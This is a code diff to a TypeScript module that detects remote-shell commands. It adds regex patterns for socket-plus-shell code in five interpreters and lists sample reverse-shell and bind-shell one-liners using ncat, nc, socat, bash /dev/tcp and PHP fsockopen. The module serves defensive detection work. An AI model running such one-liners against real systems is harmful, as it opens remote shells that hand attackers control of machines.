@@ -189,5 +189,19 @@ export const REMOTE_SHELL = {
     /^(?:TCP|TCP4|TCP6|TCP-LISTEN|TCP-L|TCP4-LISTEN|TCP6-LISTEN|UDP|UDP4|UDP6|UDP-LISTEN|UDP-L|OPENSSL|OPENSSL-LISTEN|SSL|SSL-L|SOCKS|SOCKS4|SOCKS4A|SOCKS5|PROXY|SCTP|SCTP-LISTEN|DCCP)[:,]/i,
   /** bash's /dev/tcp and /dev/udp: a redirection to one is a connection. */
   deviceSocket: /^\/dev\/(?:tcp|udp)\/[^/]+\/\d+$/,
-  examples: ['ncat -e /bin/sh 10.0.0.1 4444', 'nc -lvp 4444 -e /bin/bash', 'socat TCP:10.0.0.1:4444 EXEC:sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+  /** Interpreter code that opens a socket and runs a shell or a process on it. */
+  code: {
+    python: { connects: /\bsocket\.socket\s*\(|\bcreate_connection\s*\(/, runs: /\bdup2\s*\(|pty\.spawn|\/bin\/(?:ba|z|da|k)?sh\b/ },
+    php: { connects: /\bfsockopen\s*\(|\bstream_socket_client\s*\(|\bsocket_create\s*\(/, runs: /\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\(/ },
+    perl: { connects: /IO::Socket|\bsocket\s*\(/, runs: /\bexec\b|\bsystem\b|open\s*\(\s*STDIN/ },
+    ruby: { connects: /\bTCPSocket\b|\bSocket\.new\b/, runs: /\bexec\b|\bspawn\b|\bsystem\b|IO\.popen|\/bin\/(?:ba|z|da)?sh\b/ },
+    js: { connects: /\bnet\.(?:connect|createConnection|Socket)\b|new\s+net\.Socket/, runs: /child_process|\bspawn\s*\(|\/bin\/(?:ba|z|da)?sh\b/ },
+  } as Record<string, { connects: RegExp; runs: RegExp }>,
+  examples: [
+    'ncat -e /bin/sh 10.0.0.1 4444',
+    'nc -lvp 4444 -e /bin/bash',
+    'socat TCP:10.0.0.1:4444 EXEC:sh',
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    'php -r \'$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+  ],
 };
